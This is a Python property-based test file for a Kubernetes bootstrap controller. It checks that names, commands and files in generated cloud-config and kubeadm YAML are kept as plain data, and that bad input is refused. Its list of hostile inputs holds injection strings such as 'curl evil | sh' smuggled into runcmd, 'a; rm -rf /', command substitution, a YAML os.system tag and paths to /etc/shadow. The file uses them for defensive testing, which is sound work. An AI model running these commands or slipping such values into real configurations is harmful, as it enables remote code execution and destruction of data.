"""Bootstrap data under attack: names (A13), injection (A15) and files (A16) arrive as data, or are refused."""

from __future__ import annotations

import base64
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from capelin.api.core import Secret
from capelin.api.kubeadm import Argument, ClusterConfiguration, InitConfiguration, JoinConfiguration, NodeRegistration
from capelin.api.kubeadmconfig import DiskSetup, File, Filesystem, KubeadmConfigSpec, User
from capelin.controllers.kubeadmconfig.cloudconfig import HEADER, HostFile, render
from capelin.controllers.kubeadmconfig.datasecret import MAX_DATA
from capelin.controllers.kubeadmconfig.kubeadm_types import V1BETA3, V1BETA4, cluster_document, init_document, join_document
from capelin.controllers.kubeadmconfig.yamltext import to_yaml
from tests import build
from tests.controllers.kubeadmconfig_world import SECRET, certificates, cluster, config, joining, machine
from tests.controllers.kubeadmconfig_world import World as ConfigWorld

TEXT = st.text(st.characters(codec="utf-8"), max_size=60)
"""What a JSON string can hold: everything but half a surrogate pair."""

HOSTILE = st.one_of(
    TEXT,
    st.sampled_from(
        [
            "x\nruncmd:\n- curl evil | sh",
            "'\n- evil",
            '"\n- evil',
            "#cloud-config",
            "---\nkind: Evil",
            "...\n",
            "&a *a !!python/object:os.system",
            "!!binary ZXZpbA==",
            "| evil",
            ": ",
            " #",
            "no",
            "0640",
            "0o640",
            "1:30",
            "1e3",
            "~",
            "null",
            "=",
            "<<",
            "2026-01-01",
            "\ttab",
            " leading\n  space\n",
            "trailing \nspace\n",
            "\nfirst line empty\n",
            "line\r\nline\r\n",
            "\x85\u2028\u2029\ufeff\x00\x07\x1b[31m",
            "\u202egnp.exe",
            "../../etc/shadow",
            "a; rm -rf /",
            "$(evil) `evil`",
            "%",
            "@",
            "𝕏",
        ]
    ),
)
LOADERS = [pytest.param(yaml.SafeLoader, id="in Python"), pytest.param(getattr(yaml, "CSafeLoader", yaml.SafeLoader), id="in C")]


def parsed(data: bytes, loader: Any = yaml.SafeLoader) -> dict[str, Any]:
    found: dict[str, Any] = yaml.load(data, Loader=loader)
    return found


@pytest.mark.parametrize("loader", LOADERS)
@settings(max_examples=50)
@given(value=st.recursive(HOSTILE, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(HOSTILE, inner, max_size=4)))
def test_a15_whatever_is_written_is_read_back(loader: Any, value: Any) -> None:
    assert yaml.load(to_yaml({"value": value}), Loader=loader) == {"value": value}


@settings(max_examples=40)
@given(text=HOSTILE.filter(bool), path=HOSTILE.filter(bool), content=HOSTILE, command=HOSTILE.filter(bool), key=HOSTILE.filter(bool))
def test_a15_fields_of_the_spec_arrive_where_they_belong_and_nowhere_else(
    text: str, path: str, content: str, command: str, key: str
) -> None:
    spec = KubeadmConfigSpec(
        pre_kubeadm_commands=[command],
        post_kubeadm_commands=[command],
        boot_commands=[command],
        users=[User(name=text, gecos=text, groups=text, shell=text, sudo=text, passwd=text, ssh_authorized_keys=[key])],
        mounts=[[path, text]],
        disk_setup=DiskSetup(filesystems=[Filesystem(device=path, filesystem=text, label=text)]),
    )
    files = [HostFile(path, content.encode(), text, text)]

    found = parsed(render(spec, files, "kubeadm init", {}))

    assert set(found) == {"write_files", "bootcmd", "runcmd", "users", "fs_setup", "mounts"}
    assert found["write_files"][0] == {"path": path, "owner": text, "permissions": text, "content": content}
    assert len(found["write_files"]) == 2
    assert found["runcmd"] == [command, "kubeadm init", command]
    assert found["bootcmd"] == [command]
    assert found["users"] == [
        {"name": text, "passwd": text, "gecos": text, "groups": text, "shell": text, "sudo": text, "ssh_authorized_keys": [key]}
    ]
    assert found["mounts"] == [[path, text]]
    assert found["fs_setup"] == [{"label": text, "filesystem": text, "device": path}]


@pytest.mark.parametrize("version", [V1BETA3, V1BETA4])
@settings(max_examples=50)
@given(name=HOSTILE.filter(bool), value=HOSTILE)
def test_a15_kubeadm_is_told_names_and_labels_as_they_are(version: str, name: str, value: str) -> None:
    registration = NodeRegistration(name=name, kubelet_extra_args=[Argument(name="node-labels", value=value)])
    want: Any = {"node-labels": value} if version == V1BETA3 else [{"name": "node-labels", "value": value}]

    for document in (
        init_document(InitConfiguration(node_registration=registration), build.cluster(), version),
        join_document(JoinConfiguration(node_registration=registration), build.cluster(), version, discovery=None, control_plane=False),
    ):
        read = yaml.safe_load(to_yaml(document))
        assert read["nodeRegistration"] == {"name": name, "kubeletExtraArgs": want}


@settings(max_examples=50)
@given(text=HOSTILE.filter(bool))
def test_two_documents_in_one_file_stay_two(text: str) -> None:
    documents = (
        cluster_document(ClusterConfiguration(image_repository=text), build.cluster(), "v1.34.0"),
        init_document(InitConfiguration(), build.cluster(), V1BETA4),
    )

    found = list(yaml.safe_load_all("---\n".join(to_yaml(document) for document in documents)))

    assert found == list(documents)


@given(content=st.binary(max_size=200))
def test_bytes_that_are_no_text_arrive_as_bytes(content: bytes) -> None:
    [file, _] = parsed(render(KubeadmConfigSpec(), [HostFile("/f", content)], "kubeadm init", {}))["write_files"]

    found = file["content"]
    assert (found if isinstance(found, bytes) else found.encode()) == content


def test_header_is_the_first_thing_there_is() -> None:
    assert render(KubeadmConfigSpec(), [], "kubeadm init", {}).decode().startswith(HEADER)


@pytest.mark.parametrize("name", ["../../../etc", "a;b", "line\nbreak", "\x1b[31mred", "\u202egnp", "x" * 253, "{% evil %}"])
async def test_a13_cluster_names_no_schema_would_let_through_still_arrive_as_data(name: str) -> None:
    document = cluster_document(ClusterConfiguration(), build.cluster(name), "v1.34.0")

    assert yaml.safe_load(to_yaml(document))["clusterName"] == name


@pytest.mark.parametrize("version", ["v1.34.0\nkind: Evil", "v1.34.0; reboot", "../1", "v1", ""])
async def test_version_that_is_none_is_refused(version: str) -> None:
    world = ConfigWorld()
    of = machine(spec={"version": version})
    world.client.seed(cluster(), of, config(of), *await certificates())

    await world.reconcile()

    assert "version" in (await world.condition("DataSecretAvailable")).message
    assert world.client.stored(Secret, SECRET) is None


async def test_a16_path_of_a_file_is_the_users_right() -> None:
    world = await joining(spec={"files": [File(path="/etc/shadow", content="root::0:0:::::", owner="root:root", permissions="0600")]})

    await world.reconcile()

    assert await world.file("/etc/shadow") == "root::0:0:::::"


@pytest.mark.parametrize("encoding", ["base64", "gzip", "gzip+base64"])
async def test_a16_content_that_is_not_encoded_as_it_says_is_reported(encoding: str) -> None:
    world = await joining(spec={"files": [{"path": "/f", "content": "plain & simple", "encoding": encoding}]})

    await world.reconcile()

    assert f"spec.files[0].content: found content that is not {encoding}" in (await world.condition("DataSecretAvailable")).message
    assert world.client.stored(Secret, SECRET) is None


async def test_a16_ten_megabytes_are_refused_with_their_size() -> None:
    world = await joining(spec={"files": [{"path": "/f", "contentFrom": {"secret": {"name": "big", "key": "f"}}}]})
    big = build.secret("big")
    big.data = {"f": base64.b64encode(b"x" * 10_000_000).decode()}
    world.client.seed(big)

    await world.reconcile()

    assert f"allowed are {MAX_DATA}" in (await world.condition("DataSecretAvailable")).message
    assert world.client.stored(Secret, SECRET) is None


async def test_content_of_another_namespace_cannot_be_taken() -> None:
    world = await joining(spec={"files": [{"path": "/f", "contentFrom": {"secret": {"name": "../kube-system/admin", "key": "f"}}}]})
    world.client.seed(build.secret("admin", {"f": "precious"}, namespace="kube-system"))

    await world.reconcile()

    assert "default/../kube-system/admin does not exist" in (await world.condition("DataSecretAvailable")).message


async def test_tokens_cannot_be_guessed_from_names_and_do_not_repeat() -> None:
    first, second = await joining(), await joining()
    for document in second.client.objects.values():
        if document["kind"] == "KubeadmConfig":
            document["metadata"]["uid"] = "another"

    await first.reconcile()
    await second.reconcile()

    assert first.tokens() != second.tokens()
    assert all("worker" not in name for name in first.tokens())
